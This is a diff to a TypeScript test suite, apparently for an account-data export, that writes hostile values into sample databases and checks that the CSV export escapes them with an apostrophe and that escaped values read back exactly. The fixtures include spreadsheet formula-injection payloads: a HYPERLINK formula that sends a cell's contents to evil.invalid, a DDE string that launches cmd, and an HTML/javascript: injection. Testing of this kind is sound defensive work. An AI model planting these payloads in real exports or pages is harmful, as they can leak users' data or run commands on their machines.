@@ -19,6 +19,8 @@ const HOSTILE = {
   company: `=HYPERLINK("http://evil.invalid/?"&A2,"Click for your refund")`,
   jobTitle: "\t=1+1",
   device: `@SUM(1+1)*cmd|' /C calc'!A0`,
+  /** Already behind an apostrophe in the system: the CSV must still give it back exactly. */
+  deviceName: "'=1+1",
   subject: `</td></tr></table><a href="javascript:document.title='pwned3'">click</a> &amp; &#60;b&#62;`,
 };
 /** Above JSON_ARRAY_MAX_RECORDS: the auth log goes through the JSON Lines path and its CSV through the transcoder thread. */
@@ -46,6 +48,7 @@ describeEachDatabase("export of what the sample systems hold, hostile content in
     // Written into the systems themselves, as a support agent, an integration or the person would.
     const accounts = await sqlite(path.join(sampleDir, "accounts.sqlite"));
     await accounts.query(`UPDATE users SET name = ?, company = ?, job_title = ? WHERE email = ?`, [HOSTILE.name, HOSTILE.company, HOSTILE.jobTitle, ADA]);
+    await accounts.query(`UPDATE devices SET name = ? WHERE id = (SELECT MIN(id) FROM devices WHERE user_id = 'usr_00000')`, [HOSTILE.deviceName]);
     await accounts.destroy();
     const log = await sqlite(path.join(sampleDir, "auth-log.sqlite"));
     await log.query(
@@ -78,6 +81,11 @@ describeEachDatabase("export of what the sample systems hold, hostile content in
       // Each value is still there, as text behind the documented apostrophe.
       for (const v of [HOSTILE.company, HOSTILE.jobTitle, HOSTILE.device]) expect(cells.has(`'${v}`), v).to.equal(true);
       expect(manifest.csvFormulaGuard).to.match(/apostrophe/);
+      // Read back by the manifest's rule (one apostrophe off a cell that matches it), every cell is the system's value.
+      const readBack = (cell: string) => (/^'+[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell);
+      const deviceNames = (parse(await zip.text("data/account.csv"), { bom: true, columns: true }) as Record<string, string>[]).filter((r) => r.type === "device").map((r) => readBack(r.name));
+      expect(deviceNames).to.include(HOSTILE.deviceName);
+      for (const v of [HOSTILE.company, HOSTILE.jobTitle, HOSTILE.device]) expect(readBack(`'${v}`)).to.equal(v);
       // The JSON holds exactly what the systems hold.
       const account = JSON.parse(await zip.text("data/account.json")) as Array<{ type: string; data: Record<string, unknown> }>;
       expect(account.find((r) => r.type === "user")!.data).to.deep.include({ name: HOSTILE.name, company: HOSTILE.company, job_title: HOSTILE.jobTitle });
